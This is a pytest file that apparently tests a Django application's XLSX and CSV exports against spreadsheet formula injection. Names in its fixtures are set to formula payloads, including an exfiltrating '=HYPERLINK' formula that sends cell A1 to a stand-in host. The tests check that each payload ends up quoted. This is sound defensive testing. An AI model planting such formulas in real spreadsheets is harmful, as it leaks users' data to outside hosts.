"""Spreadsheet formula injection (OWASP "CSV injection"): every XLSX and CSV export neutralises texts a
spreadsheet would run, through tremplin.core.exports, and no other module writes a spreadsheet."""

import csv
import datetime
import io
import pathlib
import re
from decimal import Decimal

import pytest
import time_machine
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from tests.clauses.factories import HoursRecordFactory, PlacementFactory, hours_world
from tests.factories import FollowUpFactory, OrganizationFactory, PersonFactory, user_with_role
from tests.plie.factories import PathwayFactory
from tremplin.accounts.enums import Role
from tremplin.core.exports import FORMULA_TRIGGERS, Column, build_workbook, csv_response, safe_value
from tremplin.plie.exports import fse_participants_csv, fse_participants_xlsx
from tremplin.reports.registry import Period
from tremplin.structures.enums import OrganizationKind

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"clic")'
SUM = "=1+1"
HOSTILE = (HYPERLINK, SUM)


def assert_xlsx_is_inert(content: bytes, *, expected=HOSTILE):
    workbook = load_workbook(io.BytesIO(content))  # formulas kept as formulas (not data_only)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), f"{sheet.title}!{cell.coordinate}"
                    texts.append(cell.value)
    for value in expected:
        assert any(value in text for text in texts), f"{value} not exported"
    if expected:
        # A hostile value opened at least one cell, and was quoted there.
        assert any(text.startswith("'") and text[1:].startswith(expected) for text in texts)


def assert_csv_is_inert(content: bytes, *, expected=HOSTILE):
    fields = [field for line in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for field in line]
    for field in fields:
        assert not field.startswith(FORMULA_TRIGGERS), field
    for value in expected:
        assert any(value in field for field in fields), f"{value} not exported"
    if expected:
        assert any(field.startswith("'") and field[1:].startswith(expected) for field in fields)


# The one writer -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [HYPERLINK, SUM, "+33 6 12 34 56 78", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_a_spreadsheet_would_run_is_quoted(text):
    assert safe_value(text) == "'" + text


@pytest.mark.parametrize("value", [-12, Decimal("-3.50"), -0.5, 0, None, datetime.date(2024, 1, 1), "Zoé", "a=b"])
def test_numbers_dates_and_plain_texts_are_left_as_they_are(value):
    assert safe_value(value) == value


def test_the_writer_keeps_negative_numbers_as_numbers():
    columns = [Column("Nom", lambda r: r[0]), Column("Heures", lambda r: r[1], "0.00")]
    sheet = build_workbook([(SUM, Decimal("-1.50")), (HYPERLINK, -2)], columns, title="t", preamble=[SUM]).active
    assert [c.value for c in sheet["B"]][-2:] == [-1.5, -2]
    assert {c.data_type for c in sheet["B"]} >= {"n"}
    content = csv_response([(SUM, -2)], columns, filename="x").content
    assert content.decode("utf-8-sig").splitlines()[1] == "'=1+1;-2"


def test_no_module_writes_a_spreadsheet_outside_core_exports():
    """Every workbook and CSV writer goes through core/exports.py; the import templates are built in their
    modules and served through `xlsx_file_response`, which neutralises them."""
    root = pathlib.Path(__file__).resolve().parents[2] / "tremplin"
    allowed = {"core/exports.py"}
    templates = set()
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        text = path.read_text(encoding="utf-8")
        if relative in allowed:
            continue
        assert not re.search(r"csv\.writer\(|csv\.DictWriter\(", text), relative
        if re.search(r"\bWorkbook\(", text):
            templates.add(relative)
    served_through_core = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "xlsx_file_response(build_template" in path.read_text(encoding="utf-8")
    }
    # Each module building its own workbook (the two import templates) is served by a view of its app
    # through core.exports.xlsx_file_response.
    for relative in templates:
        app = relative.split("/")[0]
        assert any(view.startswith(app + "/") for view in served_through_core), relative


# Every export, with people and structures named like formulas ---------------------------------------


def test_hours_template(client):
    world = hours_world()
    person = world.placement.person
    person.last_name, person.first_name = HYPERLINK, SUM
    person.save()
    client.force_login(world["company"])
    with time_machine.travel(datetime.datetime(2024, 7, 15, 10, 0), tick=False):
        response = client.get(reverse("clauses:hours_template"))
    assert response.status_code == 200
    assert_xlsx_is_inert(response.content)


def test_operation_report_with_names(client):
    world = hours_world()
    person = world.placement.person
    # The annex writes "first LAST": the formula opens the cell.
    person.first_name, person.last_name = HYPERLINK, SUM
    person.save()
    HoursRecordFactory(placement=world.placement, month=datetime.date(2024, 3, 1))
    other = PlacementFactory(lot=world.lot, employer=OrganizationFactory(name="@Intérim", company=True))
    HoursRecordFactory(placement=other, month=datetime.date(2024, 3, 1))
    client.force_login(world["coordinator"])
    url = reverse("clauses:operation_report_xlsx", kwargs={"operation_id": world.operation.pk})
    response = client.get(url + "?noms=1&start=2024-01-01&end=2024-12-31")
    assert response.status_code == 200
    assert_xlsx_is_inert(response.content, expected=(*HOSTILE, "@Intérim"))


def test_figures_xlsx(client):
    coordinator = user_with_role(Role.COORDINATOR, first_name=SUM, last_name=HYPERLINK)
    OrganizationFactory(name=SUM)
    client.force_login(coordinator)
    response = client.get(reverse("reports:figures") + "?format=xlsx")
    assert response.status_code == 200
    # The user's name comes after "Calculés pour": nothing to quote, and still no formula.
    assert_xlsx_is_inert(response.content, expected=())


def test_plie_import_template(client):
    OrganizationFactory(name=HYPERLINK, kind=OrganizationKind.OPERATOR)
    OrganizationFactory(name=SUM, kind=OrganizationKind.PRESCRIBER)
    client.force_login(user_with_role(Role.COORDINATOR))
    response = client.get(reverse("plie:import_template"))
    assert response.status_code == 200
    assert_xlsx_is_inert(response.content)


@pytest.fixture
def fse_participant():
    operator = OrganizationFactory(name=SUM)
    person = PersonFactory(last_name=HYPERLINK, first_name="-Zoé")
    FollowUpFactory(person=person, organization=operator)
    PathwayFactory(person=person, proposed_organization=operator, entry_date=datetime.date(2023, 2, 1))
    return person


def test_fse_csv(fse_participant):
    response = fse_participants_csv(user=user_with_role(Role.COORDINATOR), period=Period.year(2023))
    assert_csv_is_inert(response.content, expected=(*HOSTILE, "-Zoé"))


def test_fse_xlsx(fse_participant):
    response = fse_participants_xlsx(user=user_with_role(Role.COORDINATOR), period=Period.year(2023))
    assert_xlsx_is_inert(response.content, expected=(*HOSTILE, "-Zoé"))


def test_activity_report_xlsx(tmp_path):
    output = tmp_path / "indicateurs.xlsx"
    call_command("activity_report", "--year", "2023", "--format", "xlsx", "--output", str(output))
    assert_xlsx_is_inert(output.read_bytes(), expected=())
